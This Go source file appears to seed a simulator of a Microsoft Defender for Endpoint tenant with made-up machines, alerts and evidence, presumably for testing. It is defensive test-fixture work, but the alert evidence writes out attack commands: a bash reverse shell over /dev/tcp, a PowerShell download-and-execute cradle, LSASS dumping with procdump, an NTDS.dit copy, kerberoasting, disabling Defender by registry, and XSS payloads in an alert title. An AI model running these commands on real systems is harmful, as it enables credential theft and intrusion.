package sim

import (
	"crypto/sha1" // #nosec G505 -- deterministic ids for made-up data, not security
	"encoding/binary"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/mdeflow/mdeflow/internal/mde"
)

// Tenant is the seed data of a simulator.
type Tenant struct {
	// ID is the Entra tenant id (also the alerts' aadTenantId).
	ID       string
	Alerts   []mde.Alert
	Machines []mde.Machine
	// GraphAlerts are raw alerts_v2 entities (from LoadAlertsFile); the
	// Graph endpoint serves them as loaded, overlaying the fields an MDE
	// PATCH changes, and converts every other alert from its MDE shape.
	GraphAlerts []json.RawMessage
	// HuntRows holds advanced-hunting rows per table name (e.g.
	// "DeviceProcessEvents"). Values may be string, bool, numbers,
	// time.Time (rendered as ISO-8601 UTC), []any or map[string]any.
	HuntRows map[string][]map[string]any
	// Hunt, when set, answers every hunting query instead of the built-in
	// KQL subset (see hunting.go). Return a *HuntError to choose the error.
	Hunt HuntFunc
}

// Column is one entry of a hunting result schema; Type uses the Kusto names
// the APIs return (String, DateTime, Int64, Int32, Double, Boolean, Dynamic).
type Column struct {
	Name string
	Type string
}

// HuntFunc answers an advanced-hunting query.
type HuntFunc func(query string, now time.Time) (columns []Column, rows []map[string]any, err error)

// HuntError lets a HuntFunc pick the HTTP status and code of the failure
// (default 400 BadRequest).
type HuntError struct {
	Status  int
	Code    string
	Message string
}

func (e *HuntError) Error() string { return e.Code + ": " + e.Message }

// Ids of notable machines of SampleTenant.
const (
	// SampleHotMachineID is ws-fin-0142: three High alerts (LSASS access,
	// ransomware behaviour, the HTML-titled SmartScreen alert) and two Medium.
	SampleHotMachineID = "fbb1e330f25d45f593c9b07bfcf71c87a2964367"
	// SampleProtectedMachineID is dc01, a domain controller tagged "protected"
	// in rbac group "Tier0-Servers", with one High alert (ntdsutil).
	SampleProtectedMachineID = "5df0bc1865019cfeb0e4a9879a30adbb7abee774"
	// SampleLinuxMachineID is srv-web-01 (Linux): Selective isolation and
	// restricting app execution fail with OsPlatformNotSupported.
	SampleLinuxMachineID = "58d9730934f37149059022a9a4adb02a52c82b97"
	// SampleLegacyMachineID is ws-legacy-0009, Windows 10 1703 (build 15063):
	// Full isolation works, Selective does not; it has one High alert.
	SampleLegacyMachineID = "1ff8235f947d98975b8745b35f3671737b5702e1"
)

type sampleMachine struct {
	id, name, os, version string
	build                 int64
	group                 string
	groupID               int64
	tags                  []string
	value, risk, exposure string
	health                string
	ip                    string
}

var sampleMachines = []sampleMachine{
	{SampleHotMachineID, "ws-fin-0142", "Windows11", "23H2", 22631, "Finance-Workstations", 12, []string{"finance", "vip"}, "Normal", "High", "Medium", "Active", "10.20.30.40"},
	{SampleProtectedMachineID, "dc01", "WindowsServer2022", "21H2", 20348, "Tier0-Servers", 2, []string{"protected", "tier0"}, "High", "High", "High", "Active", "10.0.0.10"},
	{SampleLinuxMachineID, "srv-web-01", "Linux", "Ubuntu 22.04", 0, "DMZ-Servers", 31, []string{"dmz"}, "Normal", "High", "Medium", "Active", "192.0.2.15"},
	{"e52f3bda632a5c3b99750751e4b2ea9c2a1bf550", "ws-hr-0077", "Windows10", "22H2", 19045, "HR-Workstations", 14, []string{"hr"}, "Normal", "Medium", "Low", "Active", "10.20.31.77"},
	{"9c59d6c21e3faaafad573805c7e0173f59c511d8", "ws-dev-0311", "Windows10", "22H2", 19045, "Dev-Workstations", 15, []string{}, "Normal", "High", "Medium", "Active", "10.20.32.11"},
	{"0496cdaf10be5634a8689a31175b9473c152cc0a", "ws-mkt-0020", "Windows11", "23H2", 22631, "Marketing-Workstations", 16, []string{}, "Normal", "Low", "Low", "Active", "10.20.33.20"},
	{"6bc3b032afec2a1111531428b4bd018db8d88c53", "lt-exec-0001", "Windows11", "24H2", 26100, "Executive-Laptops", 11, []string{"vip"}, "High", "High", "Medium", "Active", "10.20.34.1"},
	{"f9523dffc20e598ab86fa4c42920e4d7e5d80b88", "srv-sql-02", "WindowsServer2019", "1809", 17763, "Tier1-Servers", 3, []string{"sql"}, "High", "Medium", "Medium", "Active", "10.0.1.22"},
	{"4810c4396c77ab674cabfa3622f8b11628e8d391", "mac-design-07", "macOS", "14.5", 0, "Design-Macs", 17, []string{}, "Normal", "Low", "Low", "Active", "10.20.35.7"},
	{SampleLegacyMachineID, "ws-legacy-0009", "Windows10", "1703", 15063, "Legacy-Workstations", 18, []string{"legacy"}, "Low", "High", "High", "Active", "10.20.36.9"},
	{"a9f7d6f9183d1b90e6b80c68a2e56053d2f27504", "ws-ops-0155", "Windows10", "22H2", 19045, "Ops-Workstations", 19, []string{}, "Normal", "Informational", "Low", "Inactive", "10.20.37.155"},
	{"4338f551d3636e8bb4233aee007a3f51dbb2003a", "kiosk-lobby-01", "Windows10", "21H2", 19044, "Kiosks", 20, []string{"kiosk"}, "Low", "None", "Low", "Active", "10.20.38.1"},
	{"71d5d8014eb16b8dfe563848f7241f2ee21033fc", "srv-file-03", "WindowsServer2016", "1607", 14393, "Tier1-Servers", 3, []string{}, "Normal", "Medium", "Medium", "ImpairedCommunication", "10.0.1.33"},
	{"8fb15376209026e22386b69178356708ac5c3c32", "ws-sales-0410", "Windows11", "23H2", 22631, "Sales-Workstations", 21, []string{}, "Normal", "Medium", "Low", "Active", "10.20.39.10"},
}

const sampleDomain = ".corp.example.com"

// evidence builders
func evFile(name, path, sha1, sha256 string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		return mde.Evidence{EntityType: "File", EvidenceCreationTime: ptrT(t), FileName: &name, FilePath: &path, Sha1: &sha1, Sha256: &sha256, DetectionStatus: ptr("Detected")}
	}
}

func evProcess(name, path, cmd string, pid int64, parent string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		pp := pid - 1000
		pc := t.Add(-90 * time.Second)
		return mde.Evidence{
			EntityType: "Process", EvidenceCreationTime: ptrT(t),
			FileName: &name, FilePath: &path, ProcessCommandLine: &cmd, ProcessID: &pid,
			ProcessCreationTime: ptrT(t.Add(-80 * time.Second)), ParentProcessID: &pp,
			ParentProcessCreationTime: &pc, ParentProcessFileName: &parent,
			ParentProcessFilePath: ptr(`C:\Windows\System32`),
			Sha1:                  ptr(hexOf(sha1Hex("sha1/"+name), 40)), Sha256: ptr(hexOf(sha1Hex("sha256a/"+name)+sha1Hex("sha256b/"+name), 64)),
			DetectionStatus: ptr("Detected"),
		}
	}
}

func evUser(account, domain, sid, upn string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		aad := uuidFrom("aaduser/" + upn)
		return mde.Evidence{EntityType: "User", EvidenceCreationTime: ptrT(t), AccountName: &account, DomainName: &domain, UserSid: &sid, AadUserID: &aad, UserPrincipalName: &upn}
	}
}

func evIP(ip string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		return mde.Evidence{EntityType: "Ip", EvidenceCreationTime: ptrT(t), IPAddress: &ip}
	}
}

func evURL(u string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		return mde.Evidence{EntityType: "Url", EvidenceCreationTime: ptrT(t), URL: &u}
	}
}

func evRegistry(hive, key, name, typ, value string) func(time.Time) mde.Evidence {
	return func(t time.Time) mde.Evidence {
		return mde.Evidence{EntityType: "Registry", EvidenceCreationTime: ptrT(t), RegistryHive: &hive, RegistryKey: &key, RegistryValueName: &name, RegistryValueType: &typ, RegistryValue: &value}
	}
}

type sampleAlert struct {
	minutesAgo float64
	machine    int
	severity   string
	category   string
	source     string
	title      string
	desc       string
	mitre      []string
	evidence   []func(time.Time) mde.Evidence
	// optional
	updatedAfter   time.Duration
	status         string
	assignedTo     string
	classification string
	determination  string
	threatFamily   string
	threatName     string
	user           [2]string
}

var (
	userJdoe   = evUser("jdoe", "CORP", "S-1-5-21-1004336348-1177238915-682003330-1142", "jdoe@corp.example.com")
	userAdmin  = evUser("adm-kwalker", "CORP", "S-1-5-21-1004336348-1177238915-682003330-500", "adm-kwalker@corp.example.com")
	userSvcSQL = evUser("svc-sql", "CORP", "S-1-5-21-1004336348-1177238915-682003330-2210", "svc-sql@corp.example.com")
	userMlee   = evUser("mlee", "CORP", "S-1-5-21-1004336348-1177238915-682003330-1377", "mlee@corp.example.com")
)

// sampleAlerts: 32 alerts. Severity counts: High 8, Medium 9, Low 7,
// Informational 5, UnSpecified 3.
var sampleAlerts = []sampleAlert{
	{minutesAgo: 49, machine: 0, severity: "Medium", category: "Execution", source: "WindowsDefenderAtp",
		title: "Suspicious PowerShell command line", desc: "A suspicious PowerShell command line was observed. Attackers use encoded commands to hide their intent.",
		mitre: []string{"T1059.001"}, user: [2]string{"jdoe", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evProcess("powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 7340, "explorer.exe"), userJdoe}},
	{minutesAgo: 47.5, machine: 3, severity: "Low", category: "Execution", source: "WindowsDefenderAtp",
		title: "Low-reputation arbitrary code executed by signed executable", desc: "Binaries signed by Microsoft can be used to run low-reputation arbitrary code.",
		mitre:    []string{"T1218.011"},
		evidence: []func(time.Time) mde.Evidence{evProcess("rundll32.exe", `C:\Windows\SysWOW64`, `rundll32.exe c:\temp\helper.dll,Start`, 3276, "rundll32.exe"), evFile("helper.dll", `c:\temp`, "8563f95b2f8a284fc99da44500cd51a77c1ff36c", "dc0ade0c95d6db98882bc8fa6707e64353cd6f7767ff48d6a81a6c2aef21c608")}},
	{minutesAgo: 46, machine: 0, severity: "High", category: "CredentialAccess", source: "WindowsDefenderAtp",
		title: "Suspicious access to LSASS memory", desc: "A process read the memory of the LSASS process, a technique used to steal credentials.",
		mitre: []string{"T1003.001"}, updatedAfter: 4 * time.Minute, user: [2]string{"jdoe", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evProcess("procdump64.exe", `C:\Users\jdoe\AppData\Local\Temp`, `procdump64.exe -accepteula -ma lsass.exe C:\Users\jdoe\AppData\Local\Temp\lsass.dmp`, 6120, "cmd.exe"), evFile("procdump64.exe", `C:\Users\jdoe\AppData\Local\Temp`, "d5ed1a8dd3a35f2b1b8e6ff4b3d2e0cbd2f4c8a1", "0c1a3f6d2e5b4a7980c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d"), userJdoe}},
	{minutesAgo: 45, machine: 1, severity: "High", category: "CredentialAccess", source: "CustomDetection",
		title: "Ntdsutil collecting Active Directory information", desc: "ntdsutil.exe created an IFM copy of the Active Directory database (NTDS.dit) in a temporary folder.",
		mitre: []string{"T1003.003"}, user: [2]string{"adm-kwalker", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evProcess("ntdsutil.exe", `C:\Windows\System32`, `ntdsutil.exe "ac i ntds" "ifm" "create full c:\temp\ntds_dump" q q`, 5512, "cmd.exe"), userAdmin}},
	{minutesAgo: 44, machine: 2, severity: "High", category: "CommandAndControl", source: "WindowsDefenderAtp",
		title: "Suspicious reverse shell connection", desc: "A shell process connected to a remote host and redirected its input and output.",
		mitre:    []string{"T1059.004", "T1071"},
		evidence: []func(time.Time) mde.Evidence{evProcess("bash", "/usr/bin", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", 23011, "java"), evIP("203.0.113.66")}},
	{minutesAgo: 42.5, machine: 5, severity: "Informational", category: "Discovery", source: "WindowsDefenderAtp",
		title: "Anomalous account lookups", desc: "A user queried an unusual number of accounts.",
		mitre: []string{"T1087.002"}, user: [2]string{"mlee", "CORP"},
		evidence: []func(time.Time) mde.Evidence{userMlee}},
	{minutesAgo: 41, machine: 0, severity: "High", category: "Ransomware", source: "WindowsDefenderAv",
		title: "Ransomware behavior detected in the file system", desc: "Files were renamed and encrypted in a pattern typical of ransomware.",
		mitre: []string{"T1486"}, updatedAfter: 10 * time.Minute, threatFamily: "Sodinokibi", threatName: "Ransom:Win32/Sodinokibi.A",
		evidence: []func(time.Time) mde.Evidence{evFile("README-DECRYPT.txt", `C:\Users\jdoe\Documents`, "3f1c2a4b5d6e7f8091a2b3c4d5e6f708192a3b4c", "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0"), evProcess("svch0st.exe", `C:\ProgramData`, `C:\ProgramData\svch0st.exe --encrypt C:\Users`, 8804, "services.exe")}},
	{minutesAgo: 40, machine: 6, severity: "High", category: "Malware", source: "WindowsDefenderAv",
		title: "'Emotet' malware was detected", desc: "Malware of the Emotet family was detected in a mail attachment and blocked.",
		mitre: []string{"T1204.002"}, threatFamily: "Emotet", threatName: "Trojan:Win32/Emotet.RPX!MTB",
		evidence: []func(time.Time) mde.Evidence{evFile("Invoice_0424.doc", `C:\Users\exec\Downloads`, "aa11bb22cc33dd44ee55ff6677889900aabbccdd", "aa11bb22cc33dd44ee55ff6677889900aabbccddeeff00112233445566778899"), evURL("http://invoices.example.org/doc/Invoice_0424.doc")}},
	{minutesAgo: 38.5, machine: 4, severity: "High", category: "LateralMovement", source: "AutomatedInvestigation",
		title: "Lateral movement using PsExec", desc: "PsExec was used to run commands on another device with administrative credentials.",
		mitre: []string{"T1570", "T1021.002"}, updatedAfter: 6 * time.Minute, user: [2]string{"adm-kwalker", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evProcess("PsExec64.exe", `C:\Tools`, `PsExec64.exe \\10.20.30.41 -s cmd.exe`, 4410, "cmd.exe"), evIP("10.20.30.41"), userAdmin}},
	{minutesAgo: 37, machine: 7, severity: "Medium", category: "DefenseEvasion", source: "WindowsDefenderAtp",
		title: "Attempt to turn off Microsoft Defender Antivirus protection", desc: "A registry value that disables Microsoft Defender Antivirus was set.",
		mitre:    []string{"T1562.001"},
		evidence: []func(time.Time) mde.Evidence{evRegistry("HKEY_LOCAL_MACHINE", `SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", "Dword", "1"), evProcess("reg.exe", `C:\Windows\System32`, `reg.exe add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`, 2201, "cmd.exe")}},
	{minutesAgo: 36, machine: 0, severity: "High", category: "Execution", source: "WindowsDefenderSmartScreen",
		title: `<script>alert("x")</script> in "Invoice.pdf"`, desc: `User opened <b>Invoice.pdf</b> & clicked a link to "http://evil.example/?a=1&b=<img src=x onerror=alert(1)>"`,
		mitre: []string{"T1204.001"}, user: [2]string{"jdoe", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evURL(`http://evil.example/?a=1&b=<img src=x onerror=alert(1)>`), evFile("Invoice.pdf", `C:\Users\jdoe\Downloads`, "0123456789abcdef0123456789abcdef01234567", "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")}},
	{minutesAgo: 34.5, machine: 9, severity: "High", category: "Ransomware", source: "WindowsDefenderAv",
		title: "'WannaCry' ransomware was detected", desc: "Ransomware of the WannaCry family was detected and is still active.",
		mitre: []string{"T1486", "T1210"}, threatFamily: "WannaCry", threatName: "Ransom:Win32/WannaCrypt",
		evidence: []func(time.Time) mde.Evidence{evFile("tasksche.exe", `C:\ProgramData\qzxwvu`, "5ff465afaabcbf0150d1a3ab2c2e74f3a4426467", "ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa"), evProcess("tasksche.exe", `C:\ProgramData\qzxwvu`, `tasksche.exe /i`, 3312, "mssecsvc.exe")}},
	{minutesAgo: 33, machine: 8, severity: "Low", category: "Malware", source: "WindowsDefenderAv",
		title: "'Adload' adware was prevented", desc: "Adware was detected and quarantined.",
		mitre: []string{}, status: "Resolved", updatedAfter: 15 * time.Minute, classification: "TruePositive", determination: "UnwantedSoftware", threatFamily: "Adload",
		evidence: []func(time.Time) mde.Evidence{evFile("Player.dmg", "/Users/design/Downloads", "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d", "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809")}},
	{minutesAgo: 32, machine: 10, severity: "Informational", category: "InitialAccess", source: "WindowsDefenderAtp",
		title: "Unusual number of failed sign-in attempts", desc: "Many failed sign-in attempts were made against the device.",
		mitre:    []string{"T1110"},
		evidence: []func(time.Time) mde.Evidence{evIP("198.51.100.23"), userMlee}},
	{minutesAgo: 30.5, machine: 11, severity: "UnSpecified", category: "General", source: "CustomDetection",
		title: "Custom detection: kiosk browser launched an admin tool", desc: "A custom detection rule matched on the kiosk.",
		evidence: []func(time.Time) mde.Evidence{evProcess("mmc.exe", `C:\Windows\System32`, "mmc.exe compmgmt.msc", 1880, "msedge.exe")}},
	{minutesAgo: 29, machine: 12, severity: "Medium", category: "Persistence", source: "WindowsDefenderAtp",
		title: "New service installed with a suspicious image path", desc: "A service was created whose binary lives in a user-writable folder.",
		mitre:    []string{"T1543.003"},
		evidence: []func(time.Time) mde.Evidence{evRegistry("HKEY_LOCAL_MACHINE", `SYSTEM\CurrentControlSet\Services\UpdaterSvc`, "ImagePath", "ExpandString", `C:\Users\Public\updater.exe`), evProcess("sc.exe", `C:\Windows\System32`, `sc.exe create UpdaterSvc binPath= C:\Users\Public\updater.exe start= auto`, 2990, "cmd.exe")}},
	{minutesAgo: 28, machine: 13, severity: "Medium", category: "CommandAndControl", source: "WindowsDefenderAtp",
		title: "Connection to a known command-and-control server", desc: "The device connected to an address associated with command-and-control activity.",
		mitre: []string{"T1071.001"}, updatedAfter: 3 * time.Minute,
		evidence: []func(time.Time) mde.Evidence{evURL("http://c2.example.net/beacon"), evIP("203.0.113.200")}},
	{minutesAgo: 26.5, machine: 3, severity: "Low", category: "Collection", source: "WindowsDefenderAtp",
		title: "Suspicious archive creation of sensitive documents", desc: "Documents were compressed into a password-protected archive.",
		mitre:    []string{"T1560.001"},
		evidence: []func(time.Time) mde.Evidence{evProcess("7z.exe", `C:\Program Files\7-Zip`, `7z.exe a -pSecret C:\Users\Public\hr.7z C:\HR\*`, 5120, "cmd.exe"), evFile("hr.7z", `C:\Users\Public`, "b1b2b3b4b5b6b7b8b9b0c1c2c3c4c5c6c7c8c9c0", "b1b2b3b4b5b6b7b8b9b0c1c2c3c4c5c6c7c8c9c0d1d2d3d4d5d6d7d8d9d0e1e2")}},
	{minutesAgo: 25, machine: 0, severity: "Medium", category: "DefenseEvasion", source: "WindowsDefenderAtp",
		title: "Process injection into explorer.exe", desc: "Code was injected into explorer.exe.",
		mitre:    []string{"T1055"},
		evidence: []func(time.Time) mde.Evidence{evProcess("svch0st.exe", `C:\ProgramData`, `C:\ProgramData\svch0st.exe -inject explorer.exe`, 8810, "services.exe")}},
	{minutesAgo: 23.5, machine: 5, severity: "Low", category: "Execution", source: "WindowsDefenderSmartScreen",
		title: "SmartScreen blocked a potentially unwanted app", desc: "Microsoft Defender SmartScreen blocked an app with a poor reputation.",
		evidence: []func(time.Time) mde.Evidence{evURL("https://downloads.example.com/free-pdf-converter.exe"), evFile("free-pdf-converter.exe", `C:\Users\mkt\Downloads`, "c1c2c3c4c5c6c7c8c9c0d1d2d3d4d5d6d7d8d9d0", "c1c2c3c4c5c6c7c8c9c0d1d2d3d4d5d6d7d8d9d0e1e2e3e4e5e6e7e8e9e0f1f2")}},
	{minutesAgo: 22, machine: 7, severity: "Medium", category: "CredentialAccess", source: "AutomatedInvestigation",
		title: "Suspicious Kerberos ticket request (Kerberoasting)", desc: "Service tickets were requested for many service accounts.",
		mitre: []string{"T1558.003"}, status: "InProgress", assignedTo: "soc-tier2@corp.example.com", updatedAfter: 12 * time.Minute,
		evidence: []func(time.Time) mde.Evidence{userSvcSQL, evProcess("Rubeus.exe", `C:\Users\Public`, "Rubeus.exe kerberoast /outfile:hashes.txt", 6006, "powershell.exe")}},
	{minutesAgo: 20.5, machine: 2, severity: "Low", category: "Exploit", source: "WindowsDefenderAtp",
		title: "Possible target of Log4j exploitation", desc: "The device received a request containing a JNDI lookup string.",
		mitre:    []string{"T1190"},
		evidence: []func(time.Time) mde.Evidence{evIP("198.51.100.77"), evProcess("java", "/usr/bin", "java -jar /opt/app/app.jar", 1201, "systemd")}},
	{minutesAgo: 19, machine: 12, severity: "Informational", category: "Exfiltration", source: "WindowsDefenderAtp",
		title: "Unusual volume of data copied to removable media", desc: "A large number of files was copied to a USB drive.",
		mitre:    []string{"T1052.001"},
		evidence: []func(time.Time) mde.Evidence{evFile("finance-2025.xlsx", `E:\`, "d1d2d3d4d5d6d7d8d9d0e1e2e3e4e5e6e7e8e9e0", "d1d2d3d4d5d6d7d8d9d0e1e2e3e4e5e6e7e8e9e0f1f2f3f4f5f6f7f8f9f0a1a2")}},
	{minutesAgo: 17.5, machine: 4, severity: "Medium", category: "Execution", source: "CustomDetection",
		title: "Custom detection: encoded PowerShell download cradle", desc: "A custom detection rule matched a PowerShell download cradle.",
		mitre:    []string{"T1059.001", "T1105"},
		evidence: []func(time.Time) mde.Evidence{evProcess("powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"`, 7712, "winword.exe"), evURL("http://203.0.113.9/a.ps1")}},
	{minutesAgo: 16, machine: 6, severity: "Low", category: "Malware", source: "WindowsDefenderAv",
		title: "'Presenoker' potentially unwanted application was detected", desc: "A potentially unwanted application was detected.",
		threatFamily: "Presenoker",
		evidence:     []func(time.Time) mde.Evidence{evFile("toolbar_setup.exe", `C:\Users\exec\Downloads`, "e1e2e3e4e5e6e7e8e9e0f1f2f3f4f5f6f7f8f9f0", "e1e2e3e4e5e6e7e8e9e0f1f2f3f4f5f6f7f8f9f0a1a2a3a4a5a6a7a8a9a0b1b2")}},
	{minutesAgo: 14.5, machine: 11, severity: "UnSpecified", category: "General", source: "CustomDetection",
		title: "Custom detection: USB mass storage mounted on a kiosk", desc: "A custom detection rule matched a removable drive.",
		evidence: []func(time.Time) mde.Evidence{evUser("kiosk", "KIOSK-LOBBY-01", "S-1-5-21-3623811015-3361044348-30300820-1013", "kiosk@corp.example.com")}},
	{minutesAgo: 13, machine: 13, severity: "Medium", category: "PrivilegeEscalation", source: "WindowsDefenderAtp",
		title: "Suspicious access token manipulation", desc: "A process duplicated a SYSTEM token.",
		mitre: []string{"T1134.001"}, user: [2]string{"mlee", "CORP"},
		evidence: []func(time.Time) mde.Evidence{evProcess("potato.exe", `C:\Users\Public`, "potato.exe -t * -p cmd.exe", 4455, "cmd.exe"), userMlee}},
	{minutesAgo: 11.5, machine: 10, severity: "Informational", category: "General", source: "AutomatedInvestigation",
		title: "Automated investigation started manually", desc: "An analyst started an automated investigation on the device."},
	{minutesAgo: 10, machine: 8, severity: "Low", category: "Persistence", source: "WindowsDefenderAtp",
		title: "Suspicious launch agent created", desc: "A launch agent pointing to a hidden binary was created.",
		mitre:    []string{"T1543.001"},
		evidence: []func(time.Time) mde.Evidence{evFile("com.update.agent.plist", "/Users/design/Library/LaunchAgents", "f1f2f3f4f5f6f7f8f9f0a1a2a3a4a5a6a7a8a9a0", "f1f2f3f4f5f6f7f8f9f0a1a2a3a4a5a6a7a8a9a0b1b2b3b4b5b6b7b8b9b0c1c2")}},
	{minutesAgo: 8, machine: 3, severity: "Medium", category: "InitialAccess", source: "WindowsDefenderSmartScreen",
		title: "Phishing site blocked by SmartScreen", desc: "Microsoft Defender SmartScreen blocked a known phishing site.",
		mitre:    []string{"T1566.002"},
		evidence: []func(time.Time) mde.Evidence{evURL("https://login-micros0ft.example.com/owa"), evUser("hrbp", "CORP", "S-1-5-21-1004336348-1177238915-682003330-1460", "hrbp@corp.example.com")}},
	{minutesAgo: 5.5, machine: 9, severity: "UnSpecified", category: "General", source: "WindowsDefenderAtp",
		title: "Sensor reported an unrecognized event", desc: "The sensor reported an event the portal could not classify."},
	{minutesAgo: 3, machine: 13, severity: "Informational", category: "SuspiciousActivity", source: "WindowsDefenderAtp",
		title: "Suspicious 'net.exe' account enumeration", desc: "net.exe was used to list domain groups.",
		mitre:    []string{"T1069.002"},
		evidence: []func(time.Time) mde.Evidence{evProcess("net.exe", `C:\Windows\System32`, `net.exe group "Domain Admins" /domain`, 3030, "cmd.exe"), userMlee}},
}

// SampleTenant is the built-in demo tenant (DefaultTenantID), deterministic
// for a given now:
//
//   - 14 machines (40-hex ids, see sampleMachines): Windows 10/11, Windows
//     Server 2016/2019/2022, Linux (srv-web-01, SampleLinuxMachineID), macOS,
//     and Windows 10 1703 (ws-legacy-0009, SampleLegacyMachineID), the last
//     three unable to do Selective isolation.
//   - dc01 (SampleProtectedMachineID) is the protected server: machineTags
//     ["protected","tier0"], rbacGroupName "Tier0-Servers", one High alert.
//   - 32 alerts created between 49 and 3 minutes before now: High 8, Medium 9,
//     Low 7, Informational 5, UnSpecified 3. ws-fin-0142 (SampleHotMachineID)
//     has three High alerts, one of them titled
//     `<script>alert("x")</script> in "Invoice.pdf"`.
//   - detection sources WindowsDefenderAtp, WindowsDefenderAv,
//     CustomDetection, AutomatedInvestigation, WindowsDefenderSmartScreen;
//     evidence of every kind (File, Process, User, Ip, Url, Registry); one
//     alert Resolved (TruePositive/UnwantedSoftware), one InProgress and
//     assigned; six with lastUpdateTime minutes after creation.
//   - hunting tables: DeviceProcessEvents (procdump on lsass on ws-fin-0142
//     and ws-dev-0311, ntdsutil IFM on dc01, an excluded ntdsutil "Backup"
//     run, benign rows, and one 40-day-old row outside the 30-day window),
//     AlertInfo (one row per alert) and DeviceInfo (one row per machine).
func SampleTenant(now time.Time) *Tenant {
	now = now.UTC()
	t := &Tenant{ID: DefaultTenantID, HuntRows: map[string][]map[string]any{}}
	for _, sm := range sampleMachines {
		t.Machines = append(t.Machines, sm.machine(now))
	}
	for i, sa := range sampleAlerts {
		t.Alerts = append(t.Alerts, sa.alert(i, now, t.Machines[sa.machine], t.ID))
	}
	t.HuntRows["DeviceProcessEvents"] = sampleProcessEvents(now)
	t.HuntRows["AlertInfo"] = alertInfoRows(t.Alerts)
	t.HuntRows["DeviceInfo"] = deviceInfoRows(t.Machines, now)
	return t
}

func (sm sampleMachine) machine(now time.Time) mde.Machine {
	first := now.Add(-180 * 24 * time.Hour).Truncate(time.Second)
	last := now.Add(-20 * time.Minute).Truncate(time.Second)
	var build *int64
	if sm.build > 0 {
		b := sm.build
		build = &b
	}
	arch := "64-bit"
	aad := uuidFrom("aaddevice/" + sm.name)
	joined := !strings.HasPrefix(sm.os, "Linux") && sm.os != "macOS"
	var aadPtr *string
	if joined {
		aadPtr = &aad
	}
	return mde.Machine{
		ID:                    sm.id,
		ComputerDNSName:       sm.name + sampleDomain,
		FirstSeen:             &first,
		LastSeen:              &last,
		OSPlatform:            sm.os,
		OSProcessor:           "x64",
		OSArchitecture:        arch,
		Version:               sm.version,
		OSBuild:               build,
		LastIPAddress:         sm.ip,
		LastExternalIPAddress: "203.0.113.17",
		AgentVersion:          "10.8760.22631.1000",
		HealthStatus:          sm.health,
		OnboardingStatus:      "Onboarded",
		DeviceValue:           ptr(sm.value),
		RbacGroupID:           mde.FlexString(fmt.Sprint(sm.groupID)),
		RbacGroupName:         ptr(sm.group),
		RiskScore:             ptr(sm.risk),
		ExposureLevel:         ptr(sm.exposure),
		IsAadJoined:           joined,
		AadDeviceID:           aadPtr,
		MachineTags:           append([]string{}, sm.tags...),
		IPAddresses: []mde.IPAddress{
			{IPAddress: sm.ip, MacAddress: ptr(strings.ToUpper(hexOf(sha1Hex("mac/"+sm.name), 12))), Type: "Ethernet", OperationalStatus: "Up"},
		},
	}
}

func (sa sampleAlert) alert(i int, now time.Time, m mde.Machine, tenantID string) mde.Alert {
	created := now.Add(-time.Duration(sa.minutesAgo * float64(time.Minute))).Truncate(time.Millisecond)
	first := created.Add(-2 * time.Minute)
	last := created.Add(-90 * time.Second)
	upd := created.Add(2 * time.Second)
	if sa.updatedAfter > 0 {
		upd = created.Add(sa.updatedAfter)
	}
	status := sa.status
	if status == "" {
		status = "New"
	}
	h := sha1Hex(fmt.Sprintf("alert/%d/%s", i, sa.title))
	hv := int32(binary.BigEndian.Uint32(mustHex(h[:8])))
	id := fmt.Sprintf("da%018d_%d", 638790000000000000+uint64(i)*1234567891, hv)
	incident := int64(4701 + sa.machine)
	a := mde.Alert{
		ID:                 id,
		IncidentID:         &incident,
		Severity:           sa.severity,
		Status:             status,
		InvestigationState: ptr("Queued"),
		DetectionSource:    sa.source,
		DetectorID:         uuidFrom("detector/" + sa.title),
		Category:           sa.category,
		Title:              sa.title,
		Description:        sa.desc,
		AlertCreationTime:  &created,
		FirstEventTime:     &first,
		LastEventTime:      &last,
		LastUpdateTime:     &upd,
		MachineID:          m.ID,
		ComputerDNSName:    m.ComputerDNSName,
		RbacGroupName:      m.RbacGroupName,
		AadTenantID:        tenantID,
		MitreTechniques:    append([]string{}, sa.mitre...),
		Comments:           []mde.AlertComment{},
		Evidence:           []mde.Evidence{},
	}
	if sa.source == "AutomatedInvestigation" {
		inv := int64(9100 + i)
		a.InvestigationID = &inv
		a.InvestigationState = ptr("Running")
	}
	if sa.assignedTo != "" {
		a.AssignedTo = ptr(sa.assignedTo)
	}
	if sa.classification != "" {
		a.Classification = ptr(sa.classification)
		a.Determination = ptr(sa.determination)
	}
	if status == "Resolved" {
		r := upd
		a.ResolvedTime = &r
		a.InvestigationState = ptr("SuccessfullyRemediated")
	}
	if sa.threatFamily != "" {
		a.ThreatFamilyName = ptr(sa.threatFamily)
	}
	if sa.threatName != "" {
		a.ThreatName = ptr(sa.threatName)
	}
	if sa.user[0] != "" {
		a.RelatedUser = &mde.RelatedUser{UserName: sa.user[0], DomainName: sa.user[1]}
	}
	for _, ev := range sa.evidence {
		a.Evidence = append(a.Evidence, ev(created.Add(800*time.Millisecond)))
	}
	return a
}

